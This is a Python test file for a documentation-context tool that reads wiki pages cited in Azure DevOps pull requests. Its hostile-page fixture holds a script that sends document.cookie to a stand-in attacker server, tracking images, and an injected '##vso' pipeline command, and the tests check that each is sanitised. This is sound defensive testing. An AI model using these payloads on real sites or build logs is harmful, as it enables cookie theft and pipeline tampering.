"""`doc-context run` and `check` as subprocesses against the sandbox, with wiki pages: the pull request's
description as its author's own citations, and bad input (a page that 404s, a 1 MB page, hostile markdown,
another organization's wiki, a link to another host): each a warning or a safe rendering, and the comment posts.
"""

from __future__ import annotations

import re

import pytest

from doc_context.sandbox import RecordingServer, Sandbox
from doc_context.sandbox.ado_access import request_token
from doc_context.sandbox.ado_state import Project
from doc_context.sandbox.seed_wiki import WIKI_NAME, runbook_url
from doc_context.text.codespans import fence_open_at_end

HOSTILE = """Intro of the hostile page: split tender rules.

<img src="{evil}/pixel.gif"><script>fetch('{evil}/?c=' + document.cookie)</script>
![tracker]({evil}/t.png) @<6f1c2d0e-0000-0000-0000-000000000001> ##vso[task.setvariable variable=x]y

```
a fence that never closes, swallowing the rest of the comment
"""


def comment(sandbox: Sandbox) -> str:
    [thread] = sandbox.ado.threads(sandbox.info.pr_id)
    return str(thread["comments"][0]["content"])


def warnings(output: str) -> list[str]:
    return [
        line.split("]", 1)[1] for line in output.splitlines() if line.startswith("##vso[task.logissue type=warning")
    ]


@pytest.fixture
def evil():
    with RecordingServer() as server:
        yield server


def test_the_pull_requests_own_links_are_followed_and_other_hosts_only_listed(sandbox, cli, evil) -> None:
    info = sandbox.info
    design = f"{info.confluence_url}/spaces/PAY/pages/{info.design_page_id}"
    other = f"{evil.origin}/docs/split-tender"
    sandbox.ado.pull_request(info.pr_id).description += f"\n\nDesign: [the design]({design}). Elsewhere: {other}"

    ran = cli(sandbox.env(), "run")

    assert ran.code == 0, ran.output
    body = comment(sandbox)
    wiki = body.split("### Wiki pages", 1)[1]
    assert wiki.lstrip().startswith("#### [Ledger reconciliation](") and "**Cited by** the pull request" in wiki
    confluence = body.split("### Confluence pages", 1)[1].split("### Wiki pages", 1)[0]
    design_section = confluence.split("#### [Gift card split payments - design]", 1)[1].split("####", 1)[0]
    assert "**Cited by** the pull request" in design_section
    assert f"link in the pull request description not read (no document source reads it): {other}" in ran.stdout
    assert "wiki page 7 (version " in ran.stdout and "cited by the pull request, 4198" in ran.stdout
    assert evil.requests() == []


def test_bad_wiki_input_is_a_warning_or_a_safe_rendering_and_the_comment_posts(sandbox, cli, evil) -> None:
    info = sandbox.info
    project = Project(info.project_id, info.project_name)
    wiki = next(w for w in sandbox.ado.wikis._wikis.values() if w.name == WIKI_NAME)
    sandbox.ado.wikis.add_page(wiki, "/Hostile", HOSTILE.format(evil=evil.origin), page_id=31)
    big = "## Split tender rules\n\n" + ("Rounding happens once, on the order total. " * 20 + "\n\n") * 1200
    sandbox.ado.wikis.add_page(wiki, "/Big", big, page_id=32)
    base = runbook_url(info.org_url, project).rsplit("/", 2)[0]
    links = [
        f"{base}/31/Hostile",
        f"{base}/32/Big",
        f"{base}/999/Gone",
        f"https://dev.azure.com/contoso/Fabrikam%20Fiber/_wiki/wikis/{WIKI_NAME}/5/Elsewhere",
        f"{evil.origin}/fabrikam/Fabrikam%20Fiber/_wiki/wikis/{WIKI_NAME}/7/Look-alike",
    ]
    sandbox.ado.pull_request(info.pr_id).description += "\n\n" + "\n".join(f"- {u}" for u in links)
    assert len(big.encode()) > 1_000_000

    ran = cli({**sandbox.env(), "DOC_CONTEXT_COMMENT_BUDGET": "12000"}, "run")  # room to show what is rendered

    assert ran.code == 0, ran.output
    assert re.search(r"comment thread \d+ created", ran.stdout)
    body = comment(sandbox)
    assert "#### [Hostile](" in body and "Intro of the hostile page" in body and "#### [Big](" in body
    assert "<img" not in body and "<script" not in body and "![" not in body and "@<" not in body
    assert "##vso[" not in body and fence_open_at_end(body) is None
    said = "\n".join(warnings(ran.stdout))
    assert (
        "wiki page 999 in Fabrikam-Fiber.wiki: skipped: it does not exist, or the build identity may not read" in said
    )
    assert "wiki page 32 in Fabrikam-Fiber.wiki: it is longer than 200,000 characters: only its start was read" in said
    assert "cited wiki links are in https://dev.azure.com/contoso, not this run's organization" in said
    assert f"cited wiki links are in {evil.origin}/fabrikam, not this run's organization" in said
    assert evil.requests() == []  # the look-alike, the tracker, the pixel: nothing was asked of another host
    wiki_reads = sandbox.ado.requests(path_regex=r"/_apis/wiki/")
    assert wiki_reads and {request_token(r) for r in wiki_reads} == {info.token}


def test_check_says_whether_the_cited_wiki_pages_can_be_read(sandbox, cli) -> None:
    info = sandbox.info
    gone = runbook_url(info.org_url, Project(info.project_id, info.project_name)).rsplit("/", 2)[0] + "/999/Gone"
    sandbox.ado.pull_request(info.pr_id).description += f"\n\nOld notes: {gone}"

    ran = cli(sandbox.env(), "check")

    row = next(line for line in ran.stdout.splitlines() if line.startswith("| read the cited wiki pages |"))
    assert (
        "| warning | 1 of 2 cited wiki pages can be read; wiki page 999 in Fabrikam-Fiber.wiki: it does not exist"
        in row
    )
    assert "Grant 'Read' on the wiki" in row
    assert sandbox.ado.threads(info.pr_id) == [] or all(
        "DocContext.Thread" not in t["properties"] for t in sandbox.ado.threads(info.pr_id)
    )


def test_check_with_every_wiki_page_readable(sandbox, cli) -> None:
    ran = cli(sandbox.env(), "check")
    assert "| read the cited wiki pages | ok | 1 of 1 cited wiki pages can be read |" in ran.stdout  # 2 links, 1 page
